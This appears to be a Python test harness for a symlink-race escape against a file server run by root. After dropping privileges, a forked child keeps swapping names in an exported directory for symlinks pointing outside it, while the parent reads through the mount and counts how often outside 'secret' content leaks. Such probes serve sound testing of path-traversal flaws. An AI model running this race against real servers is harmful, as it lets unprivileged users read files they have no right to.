#!/usr/bin/env python3
"""Somebody without rights swaps names in SOURCE for links that lead to OUTSIDE, while he reads them on
MOUNT, which a server of root's serves. Prints how often he read what is OUTSIDE."""
import os, sys

mount, source, outside, times = sys.argv[1:]
WHO = 65534


def become():
    os.setgroups([])
    os.setresgid(WHO, WHO, WHO)
    os.setresuid(WHO, WHO, WHO)


def swap(number):
    names = [
        ("file", "own"),
        ("file", f"{outside}/secret"),
        ("file", "../outside/secret"),
        ("directory", "real"),
        ("directory", outside),
        ("directory", "../outside"),
        ("chain", "directory/secret"),
    ]
    name, target = names[number % len(names)]
    os.symlink(target, f"{source}/new")
    os.rename(f"{source}/new", f"{source}/{name}")


child = os.fork()
if child == 0:
    become()
    number = 0
    while os.getppid() != 1:
        swap(number)
        number += 1
become()
found, read = 0, 0
for _ in range(int(times)):
    for name in ["file", "directory/secret", "chain"]:
        try:
            with open(f"{mount}/{name}") as file:
                text = file.read()
            read += 1
            found += "secret" in text
        except OSError:
            pass
os.kill(child, 9)
print(f"{found} {'some' if read else 'none'}")
